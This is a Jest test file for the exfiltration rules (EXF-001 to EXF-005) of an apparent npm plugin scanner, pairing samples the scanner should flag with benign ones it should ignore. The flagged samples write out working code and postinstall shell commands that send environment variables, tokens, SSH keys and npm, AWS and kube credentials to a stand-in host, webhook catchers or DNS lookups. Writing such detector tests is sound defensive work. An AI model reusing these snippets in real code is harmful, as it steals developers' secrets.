import { describe, expect, it } from '@jest/globals';
import { pluginFiles, type PluginSketch } from '@ragnos-vault/testing';
import { DEFAULT_POLICY, RULES, scan, type Severity } from '../../index.ts';

/** What it is, the plugin, and the severity where it is not the rule's own. */
type Case = readonly [what: string, plugin: PluginSketch, severity?: Severity];

interface Cases {
  readonly seen: readonly Case[];
  readonly unseen: readonly Case[];
}

const script = (command: string): PluginSketch => ({
  'package.json': JSON.stringify({ name: 'plugin', version: '1.0.0', scripts: { postinstall: command } }),
});
const manual = (command: string): PluginSketch => ({
  'package.json': JSON.stringify({ name: 'plugin', version: '1.0.0', scripts: { deploy: command } }),
});

const CASES: Readonly<Record<string, Cases>> = {
  'EXF-001': {
    seen: [
      [
        'fetch',
        `fetch('https://a.example.invalid/', { method: 'POST', body: JSON.stringify(process.env) });`,
      ],
      [
        'a request that is written to',
        `const https = require('https');
         const { env } = process;
         const request = https.request({ host: 'a.example.invalid', method: 'POST' });
         request.write(Buffer.from(JSON.stringify(env)).toString('base64'));
         request.end();`,
      ],
      [
        'a copy',
        `import axios from 'axios'; const all = { ...process.env }; axios.post('https://a.example.invalid', { all });`,
      ],
      [
        'a list of it, through a function',
        `function collect() { return Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\\n'); }
         fetch('https://a.example.invalid/?' + encodeURIComponent(collect()));`,
      ],
      [
        'the output of `env`',
        `fetch('https://a.example.invalid', { body: require('child_process').execSync('env') });`,
      ],
      ['a shell', script('env | base64 | curl -d @- https://a.example.invalid')],
      ['a shell that code starts', `require('child_process').exec('printenv | nc a.example.invalid 80')`],
      [
        'a command that somebody must ask for',
        manual('curl -d "$(env)" https://a.example.invalid'),
        'medium',
      ],
    ],
    unseen: [
      ['one variable', `fetch(process.env.API_URL, { headers: { 'x-app': process.env.APP_NAME } });`],
      ['a log', `console.log(process.env);`],
      [
        'the environment of a child',
        `require('child_process').spawn('git', ['status'], { env: { ...process.env, A: '1' } });`,
      ],
      [
        'a variable chosen from it',
        `const url = process.env[process.env.CI ? 'CI_URL' : 'URL']; fetch(url + '/ping');`,
      ],
    ],
  },
  'EXF-002': {
    seen: [
      [
        'a token in a body',
        `fetch('https://a.example.invalid/', { method: 'POST', body: process.env.NPM_TOKEN });`,
      ],
      [
        'a token in a query',
        `const { GITHUB_TOKEN: t } = process.env; require('https').get('https://a.example.invalid/?t=' + t);`,
      ],
      [
        'a key in an object',
        `const keys = {}; keys.id = process.env.AWS_SECRET_ACCESS_KEY;
         require('axios').post('https://a.example.invalid', JSON.stringify(keys));`,
      ],
      [
        'a credential for an issuer it was not meant for',
        `fetch('https://api.github.com/', { headers: { authorization: process.env.NPM_TOKEN } });`,
      ],
      [
        'a credential for a host that is not known',
        `module.exports = (url) => fetch(url, { headers: { authorization: 'Bearer ' + process.env.GITHUB_TOKEN } });`,
        'medium',
      ],
    ],
    unseen: [
      [
        'a token for its issuer',
        `fetch('https://api.github.com/user', { headers: { authorization: process.env.GITHUB_TOKEN } });`,
      ],
      [
        'another token for its issuer',
        `fetch('https://registry.npmjs.org/-/whoami', { headers: { authorization: \`Bearer \${process.env.NPM_TOKEN}\` } });`,
      ],
      ['a setting', `fetch('https://a.example.invalid/' + process.env.NODE_ENV);`],
      [
        'a token that stays',
        `if (!process.env.NPM_TOKEN) throw new Error('NPM_TOKEN is missing'); fetch('https://a.example.invalid/');`,
      ],
    ],
  },
  'EXF-003': {
    seen: [
      [
        'the npm configuration',
        `const fs = require('fs'), os = require('os'), path = require('path');
         const text = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
         require('https').get('https://a.example.invalid/?' + encodeURIComponent(text));`,
      ],
      [
        'a key, in callbacks',
        `import { readFile } from 'node:fs';
         readFile(process.env.HOME + '/.ssh/id_rsa', (error, key) => { fetch('https://a.example.invalid', { method: 'POST', body: key }); });`,
      ],
      [
        'a key, in promises',
        `import { readFile } from 'node:fs/promises';
         const body = await readFile(\`\${process.env.HOME}/.aws/credentials\`); await fetch('https://a.example.invalid', { method: 'POST', body });`,
      ],
      ['a shell', script('curl -F f=@$HOME/.npmrc https://a.example.invalid')],
      [
        'a shell that code starts',
        `require('child_process').execSync('cat ~/.kube/config | curl -d @- https://a.example.invalid');`,
      ],
      ['a command that somebody must ask for', manual('scp ~/.ssh/id_rsa a.example.invalid:'), 'medium'],
    ],
    unseen: [
      [
        'a configuration that is read only',
        `const text = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');
         module.exports = /registry=(.*)/.exec(text)?.[1];`,
      ],
      [
        'another file that is sent',
        `fetch('https://a.example.invalid', { body: require('fs').readFileSync('report.json') });`,
      ],
      [
        'a configuration that is written',
        `require('fs').writeFileSync('.npmrc', 'registry=https://a.example.invalid'); fetch('https://a.example.invalid');`,
      ],
      [
        'a fetcher beside the name of another file',
        script('curl -o npmrc.md https://a.example.invalid/npmrc.md'),
      ],
    ],
  },
  'EXF-004': {
    seen: [
      ['a request catcher', `fetch('https://webhook.site/00000000-0000-0000-0000-000000000000');`],
      [
        'a tunnel in an options object',
        `require('https').request({ hostname: 'plugin.ngrok.io', path: '/' }).end();`,
      ],
      ['a bare address', `require('http').get('http://203.0.113.7:8080/a');`],
      ['an address that is decoded first', `fetch(atob('aHR0cHM6Ly9hLmV4YW1wbGUuaW52YWxpZC9w'));`],
      [
        'the webhook of a chat',
        `const hook = 'https://discord.com/api/webhooks/00000/aaaaaaaaaaaaaaaa'; const send = (url) => fetch(url); send(hook);`,
      ],
    ],
    unseen: [
      ['a host with a name', `fetch('https://api.example.invalid/v1');`],
      [
        'this machine and private networks',
        `for (const host of ['127.0.0.1', '10.0.0.8', '192.168.1.1']) fetch('http://' + host); fetch('http://127.0.0.1:80');`,
      ],
      [
        'a catcher that is only named',
        `// see https://webhook.site\nmodule.exports = ['webhook.site', 'pastebin.com'];`,
      ],
      [
        'a host that ends alike',
        `fetch('https://my-file.io.example.invalid/'); fetch('https://profile.io/');`,
      ],
    ],
  },
  'EXF-005': {
    seen: [
      [
        'host and user',
        `const os = require('os');
         fetch('https://a.example.invalid', { body: JSON.stringify({ h: os.hostname(), u: os.userInfo().username }) });`,
      ],
      [
        'host and folders',
        `import { hostname, homedir } from 'os';
         const seen = [hostname(), homedir(), process.cwd()].join('|');
         fetch('https://a.example.invalid/?' + seen);`,
      ],
      [
        'a name that is looked up',
        `require('dns').lookup(require('os').userInfo().username + '.a.example.invalid', () => {});`,
      ],
      [
        'a secret in a name that is looked up',
        `require('dns').resolve(\`\${process.env.NPM_TOKEN}.a.example.invalid\`, () => {});`,
      ],
    ],
    unseen: [
      ['one of them', `fetch('https://a.example.invalid/?host=' + require('os').hostname());`],
      [
        'the address of this host',
        `const os = require('os'); require('dns').lookup(os.hostname(), (error, address) => console.log(address));`,
      ],
      [
        'a log',
        `const os = require('os'); console.log(os.hostname(), os.userInfo().username); fetch('https://a.example.invalid');`,
      ],
      [
        'the platform',
        `fetch(\`https://a.example.invalid/\${process.platform}-\${process.arch}-\${require('os').release()}\`);`,
      ],
    ],
  },
};

function severitiesOf(rule: string, plugin: PluginSketch): readonly Severity[] {
  const input = { files: pluginFiles(plugin), name: 'plugin', version: '1.0.0', sha256: '0'.repeat(64) };
  const { findings } = scan(input, DEFAULT_POLICY);
  return findings.filter((finding) => finding.rule === rule).map(({ severity }) => severity);
}

describe.each(Object.entries(CASES))('%s', (rule, { seen, unseen }) => {
  const own = RULES.find(({ id }) => id === rule)?.severity;

  it.each(seen)('sees %s', (...[, plugin, severity]) => {
    expect(severitiesOf(rule, plugin)).toContain(severity ?? own);
  });

  it.each(unseen)('passes over %s', (...[, plugin]) => {
    expect(severitiesOf(rule, plugin)).toEqual([]);
  });
});

it('has three cases of either kind for every rule of the family', () => {
  const family = RULES.map(({ id }) => id).filter((id) => /^EXF-/.test(id));
  expect(Object.keys(CASES)).toEqual(family);
  for (const { seen, unseen } of Object.values(CASES)) {
    expect(Math.min(seen.length, unseen.length)).toBeGreaterThanOrEqual(3);
  }
});
